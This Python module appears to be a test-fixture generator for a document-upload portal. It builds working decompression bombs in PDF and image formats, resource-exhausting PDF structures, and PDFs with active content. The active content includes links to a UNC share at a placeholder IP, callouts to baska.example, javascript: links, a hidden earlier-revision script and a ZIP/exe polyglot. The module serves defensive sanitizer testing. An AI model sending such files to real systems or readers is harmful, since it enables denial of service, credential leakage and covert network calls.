"""Files that were made to hurt whoever opens them, small and by code: bombs, loops, and PDFs that act."""

import io
import struct
import zlib
from collections.abc import Callable, Sequence

import pikepdf
import pillow_heif
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image

MEGABYTE = 1024 * 1024


def deflated(size: int, *, begins: bytes = b"", fill: bytes = b" ", turns: int = 1) -> bytes:
    """`size` bytes that take up a thousandth; with `turns`, deflated again as often."""
    packer = zlib.compressobj(9)
    block = fill * MEGABYTE
    parts = [packer.compress(begins)]
    parts += [packer.compress(block) for _ in range(size // MEGABYTE)]
    packed = b"".join([*parts, packer.flush()])
    for _ in range(turns - 1):
        packed = zlib.compress(packed, 9)
    return packed


def written(objects: Sequence[bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    out, places = io.BytesIO(), []
    out.write(b"%PDF-1.7\n")
    for number, each in enumerate(objects, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, each))
    table = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer\n<</Size %d/Root 1 0 R%s>>\n" % (len(places) + 1, trailer))
    out.write(b"startxref\n%d\n%%%%EOF\n" % table)
    return out.getvalue()


CATALOGUE, PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def stream(entries: bytes, data: bytes) -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (entries, len(data), data)


def one_page(*more: bytes, page: bytes = b"", root: bytes = b"") -> bytes:
    """A page; `more` are the objects from number 4 on."""
    catalogue = b"<</Type/Catalog/Pages 2 0 R%s>>" % root
    return written([catalogue, PAGES, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]%s>>" % page, *more])


def content_bomb(size: int = 500 * MEGABYTE) -> bytes:
    return one_page(stream(b"/Filter/FlateDecode", deflated(size)), page=b"/Contents 4 0 R")


def content_bomb_packed_twice() -> bytes:
    packed = deflated(2000 * MEGABYTE, turns=2)
    return one_page(stream(b"/Filter[/FlateDecode/FlateDecode]", packed), page=b"/Contents 4 0 R")


def content_bomb_of_runs() -> bytes:
    """Run lengths (ISO 32000-1, 7.4.5) within Flate."""
    packed = zlib.compress(b"\x81 " * 5_000_000 + b"\x80", 9)
    return one_page(stream(b"/Filter[/FlateDecode/RunLengthDecode]", packed), page=b"/Contents 4 0 R")


def image_bomb(width: int = 10, height: int = 10) -> bytes:
    """A picture of ten by ten points in half a gigabyte of data."""
    entries = (
        b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray/BitsPerComponent 8"
        b"/Filter/FlateDecode" % (width, height)
    )
    return one_page(stream(entries, deflated(500 * MEGABYTE)), page=b"/Resources<</XObject<</Im0 4 0 R>>>>")


def declared_image(filter_name: bytes, data: bytes = b"\x00" * 64) -> bytes:
    """A picture that calls itself sixty thousand points wide and high, by a decoder that readers trust."""
    entries = (
        b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/"
        + filter_name
    )
    return one_page(stream(entries, data), page=b"/Resources<</XObject<</Im0 4 0 R>>>>")


def object_stream_bomb(size: int = 500 * MEGABYTE) -> bytes:
    """The page itself stands in a stream of objects (ISO 32000-1, 7.5.7) that unpacks to `size`."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>"
    head = b"3 0 "
    packed = deflated(size, begins=head + page)
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    places = {}
    for number, each in (
        (1, CATALOGUE),
        (2, PAGES),
        (4, stream(b"/Type/ObjStm/N 1/First %d/Filter/FlateDecode" % len(head), packed)),
    ):
        places[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, each))
    table = out.tell()
    rows = b"".join(
        struct.pack(">BIH", *row)
        for row in (
            (0, 0, 65535),
            (1, places[1], 0),
            (1, places[2], 0),
            (2, 4, 0),
            (1, places[4], 0),
            (1, table, 0),
        )
    )
    out.write(b"5 0 obj\n%s\nendobj\n" % stream(b"/Type/XRef/Size 6/W[1 4 2]/Root 1 0 R", rows))
    out.write(b"startxref\n%d\n%%%%EOF\n" % table)
    return out.getvalue()


def nested_arrays(depth: int = 200_000) -> bytes:
    return one_page(b"[" * depth + b"]" * depth, root=b"/Deep 4 0 R")


def nested_dictionaries(depth: int = 100_000) -> bytes:
    return one_page(b"<</A" * depth + b" 1" + b">>" * depth, root=b"/Deep 4 0 R")


def chained_objects(count: int = 60_000) -> bytes:
    """Each refers to the next, so that whoever goes down step by step goes far."""
    return one_page(*(b"[%d 0 R]" % (number + 5) for number in range(count)), b"[]", root=b"/Deep 4 0 R")


def table_that_leads_to_itself() -> bytes:
    plain = one_page()
    table = int(plain[plain.rindex(b"startxref") + 9 :].split()[0])
    return plain.replace(b"/Root 1 0 R", b"/Prev %d/Root 1 0 R" % table)


def many_pages(count: int = 100_000) -> bytes:
    kids = b" ".join([b"3 0 R"] * count)
    return written(
        [
            CATALOGUE,
            b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count),
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>",
        ]
    )


def pages_upon_pages(levels: int = 12) -> bytes:
    """Ten times the same branch on every level: a tree of a million million pages in two kilobytes."""
    nodes = [
        b"<</Type/Pages/Count 1%s/Kids[%s]>>"
        % (b"/Parent %d 0 R" % (level + 1) if level else b"", b" ".join([b"%d 0 R" % (level + 3)] * 10))
        for level in range(levels)
    ]
    leaf = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 99 99]>>" % (levels + 1)
    return written([CATALOGUE, *nodes, leaf])


def many_objects(count: int = 200_000) -> bytes:
    return one_page(*[b"<<>>"] * count)


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, packed: bytes, *more: bytes, colour: int = 6) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def large_png(width: int = 8_900, height: int = 8_900) -> bytes:
    """Just below the most that a picture may have, in a third of a megabyte."""
    return png(width, height, deflated((width * 4 + 1) * height + MEGABYTE, fill=b"\x00"))


def vast_png() -> bytes:
    return png(60_000, 60_000, deflated(MEGABYTE))


def vast_jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16)).save(out, "JPEG")
    whole = out.getvalue()
    at = whole.index(b"\xff\xc0") + 5
    return whole[:at] + struct.pack(">HH", 65_000, 65_000) + whole[at + 4 :]


def vast_heic() -> bytes:
    """A photo whose own box (ispe) says that it is sixty thousand points wide and high."""
    out = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", (64, 64))).save(out)
    whole = out.getvalue()
    return whole.replace(struct.pack(">II", 64, 64), struct.pack(">II", 60_000, 60_000))


def png_with_a_vast_profile() -> bytes:
    profile = chunk(b"iCCP", b"x\x00\x00" + deflated(500 * MEGABYTE))
    return png(1, 1, zlib.compress(b"\x00" * 5), profile)


def png_with_vast_words() -> bytes:
    words = [chunk(b"zTXt", b"key%d\x00\x00" % number + deflated(60 * MEGABYTE)) for number in range(10)]
    return png(1, 1, zlib.compress(b"\x00" * 5), *words)


def tiff() -> bytes:
    """Sixty thousand by sixty thousand."""
    out = io.BytesIO()
    Image.new("RGB", (16, 16)).save(out, "TIFF")
    whole = out.getvalue()
    return whole.replace(struct.pack("<HHIHH", 256, 4, 1, 16, 0), struct.pack("<HHII", 256, 4, 1, 60_000))


# What is far more, unpacked, than its file: each is refused with a sentence, and the portal's own memory stays.
BOMBS: dict[str, Callable[[], bytes]] = {
    "content": content_bomb,
    "content packed twice": content_bomb_packed_twice,
    "content of runs": content_bomb_of_runs,
    "picture in a PDF": image_bomb,
    "objects in a stream": object_stream_bomb,
    "two gigabytes of objects": lambda: object_stream_bomb(2000 * MEGABYTE),
    "JPEG 2000": lambda: declared_image(b"JPXDecode"),
    "JBIG2": lambda: declared_image(b"JBIG2Decode"),
    "arrays within arrays": nested_arrays,
    "dictionaries within dictionaries": nested_dictionaries,
    "pages": many_pages,
    "pages upon pages": pages_upon_pages,
    "objects": many_objects,
    "PNG": vast_png,
    "JPEG": vast_jpeg,
    "HEIC": vast_heic,
    "TIFF": tiff,
}
# Odd, and to be taken or refused: but without harm.
ODD: dict[str, Callable[[], bytes]] = {
    "a large picture": large_png,
    "a vast profile": png_with_a_vast_profile,
    "vast words": png_with_vast_words,
    "a table that leads to itself": table_that_leads_to_itself,
    "a chain of objects": chained_objects,
}


def changed(change: Callable[[Pdf], None], **saving: object) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    document.pages[0].obj.Contents = document.make_stream(b"BT (Mavi Deniz) Tj ET")
    change(document)
    out = io.BytesIO()
    document.save(out, **saving)  # type: ignore[arg-type]
    return out.getvalue()


def link(action: Dictionary) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)


def with_annotation(annotation: Dictionary) -> Callable[[Pdf], None]:
    written = annotation.unparse()

    def change(document: Pdf) -> None:
        document.pages[0].obj.Annots = Array([document.make_indirect(pikepdf.Object.parse(written))])

    return change


def opening(action: Dictionary) -> Callable[[Pdf], None]:
    written = action.unparse()

    def change(document: Pdf) -> None:
        document.Root.OpenAction = pikepdf.Object.parse(written)

    return change


UNC = r"\\203.0.113.9\pay\a.pdf"


def uri(address: str) -> Dictionary:
    return Dictionary(S=Name.URI, URI=String(address))


def _outline(document: Pdf) -> None:
    item = document.make_indirect(Dictionary(Title=String("a"), A=Dictionary(S=Name.GoToR, F=String(UNC))))
    document.Root.Outlines = document.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = document.Root.Outlines


def _external_stream(document: Pdf) -> None:
    document.pages[0].obj.Contents = document.make_stream(b"", F=Dictionary(Type=Name.Filespec, F=String(UNC)))


def _external_page(document: Pdf) -> None:
    form = document.make_stream(
        b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9], Ref=Dictionary(F=String(UNC), Page=0)
    )
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=form))


def _page_action(document: Pdf) -> None:
    document.pages[0].obj.AA = Dictionary(O=uri("https://baska.example/geldi"))


def _field_action(document: Pdf) -> None:
    field = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T=String("a"),
        Rect=[0, 0, 9, 9],
        AA=Dictionary(Fo=uri("https://baska.example/odak")),
    )
    field = document.make_indirect(field)
    document.pages[0].obj.Annots = Array([field])
    document.Root.AcroForm = Dictionary(Fields=Array([field]))


def _named_renditions(document: Pdf) -> None:
    clip = Dictionary(S=Name.MR, C=Dictionary(S=Name.MCD, D=Dictionary(Type=Name.Filespec, F=String(UNC))))
    document.Root.Names = Dictionary(Renditions=Dictionary(Names=Array([String("a"), clip])))


def _in_the_structure(document: Pdf) -> None:
    """A film that only the structure refers to, not the page."""
    film = document.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9]))
    held = Dictionary(Type=Name.OBJR, Obj=film)
    document.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=Dictionary(S=Name.P, K=held))


def _base(document: Pdf) -> None:
    document.Root.URI = Dictionary(Base=String("file://203.0.113.9/pay/"))
    document.pages[0].obj.Annots = Array([link(uri("a.exe"))])


# PDFs that fetch, play or open something, or point outside: none of it is on the list of what may be. By what
# they hold, and the words that must not be in what is kept.
ACTING: dict[str, tuple[Callable[[Pdf], None], tuple[bytes, ...]]] = {
    "opens another file": (opening(Dictionary(S=Name.GoToR, F=String(UNC), D=Array([0]))), (b"GoToR", b"203.0")),
    "opens an enclosed file": (opening(Dictionary(S=Name.GoToE, F=String(UNC), D=Array([0]))), (b"GoToE",)),
    "link to a file on another machine": (
        with_annotation(link(Dictionary(S=Name.GoToR, F=String(UNC), D=Array([0])))),
        (b"GoToR", b"203.0"),
    ),
    "calls an address when it is opened": (opening(uri("https://baska.example/geldi")), (b"baska.example",)),
    "calls an address on a page": (_page_action, (b"baska.example",)),
    "calls an address in a field": (_field_action, (b"baska.example",)),
    "link to a local file": (with_annotation(link(uri("file:///etc/passwd"))), (b"file:",)),
    "link to a share": (with_annotation(link(uri(r"\\203.0.113.9\pay"))), (b"203.0",)),
    "link that is a script": (with_annotation(link(uri("javascript:alert(1)"))), (b"javascript:",)),
    "link that hides its kind": (with_annotation(link(uri(" \tjAvAsCrIpT:alert(1)"))), (b"alert",)),
    "base of all links": (_base, (b"203.0",)),
    "film": (
        with_annotation(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])),
        (b"RichMedia",),
    ),
    "old film": (
        with_annotation(
            Dictionary(Type=Name.Annot, Subtype=Name.Movie, Rect=[0, 0, 9, 9], Movie=Dictionary(F=String(UNC)))
        ),
        (b"Movie", b"203.0"),
    ),
    "screen": (
        with_annotation(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Screen,
                Rect=[0, 0, 9, 9],
                A=Dictionary(S=Name.Rendition, OP=0, R=Dictionary(S=Name.MR)),
            )
        ),
        (b"Rendition", b"Screen"),
    ),
    "sound": (
        with_annotation(Dictionary(Type=Name.Annot, Subtype=Name.Sound, Rect=[0, 0, 9, 9])),
        (b"/Sound",),
    ),
    "body in three dimensions": (
        with_annotation(Dictionary(Type=Name.Annot, Subtype=Name("/3D"), Rect=[0, 0, 9, 9])),
        (b"/3D",),
    ),
    "kind that nobody knows": (
        with_annotation(Dictionary(Type=Name.Annot, Subtype=Name.Yarin, Rect=[0, 0, 9, 9])),
        (b"Yarin",),
    ),
    "action that nobody knows": (with_annotation(link(Dictionary(S=Name.Yarin))), (b"Yarin",)),
    "second step of an action": (
        with_annotation(
            link(Dictionary(S=Name.GoTo, D=String("a"), Next=Array([Dictionary(S=Name.GoToR, F=String(UNC))])))
        ),
        (b"GoToR", b"203.0"),
    ),
    "harmless steps that branch": (
        with_annotation(
            link(Dictionary(S=Name.GoTo, D=String("a"), Next=Array([Dictionary(S=Name.GoTo, D=String("b"))] * 2)))
        ),
        (b"/Next",),
    ),
    "bookmark": (_outline, (b"GoToR", b"203.0")),
    "hides fields": (opening(Dictionary(S=Name.Hide, T=String("a"))), (b"/Hide",)),
    "stream elsewhere": (_external_stream, (b"203.0",)),
    "page elsewhere": (_external_page, (b"203.0",)),
    "named films": (_named_renditions, (b"Renditions", b"203.0")),
    "film in the structure": (_in_the_structure, (b"RichMedia",)),
    "address behind a link": (
        with_annotation(
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], PA=uri("file://203.0.113.9/"))
        ),
        (b"203.0",),
    ),
}


def without(payload: bytes) -> bytes:
    """A later revision in which the catalogue has no action any more (ISO 32000-1, 7.5.6)."""
    number = int(payload[payload.rindex(b"/Root ") + 6 :].split()[0])
    table = int(payload[payload.rindex(b"startxref") + 9 :].split()[0])
    size = int(payload[payload.rindex(b"/Size ") + 6 :].split()[0].rstrip(b">"))
    with pikepdf.open(io.BytesIO(payload)) as document:
        pages = document.Root.Pages.objgen[0]
    body = payload + b"\n"
    place = len(body)
    body += b"%d 0 obj\n<</Type/Catalog/Pages %d 0 R>>\nendobj\n" % (number, pages)
    start = len(body)
    body += b"xref\n%d 1\n%010d 00000 n \n" % (number, place)
    body += b"trailer\n<</Size %d/Root %d 0 R/Prev %d>>\n" % (size, number, table)
    return body + b"startxref\n%d\n%%%%EOF\n" % start


def script_before() -> bytes:
    """A script in an earlier revision, which the last one no longer has."""
    script = opening(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    return without(changed(script, object_stream_mode=pikepdf.ObjectStreamMode.disable))


def archive_behind() -> bytes:
    """A PDF that is an archive as well: a ZIP is read from its end."""
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("calistir.exe", b"MZ")
    return changed(lambda document: None) + out.getvalue()
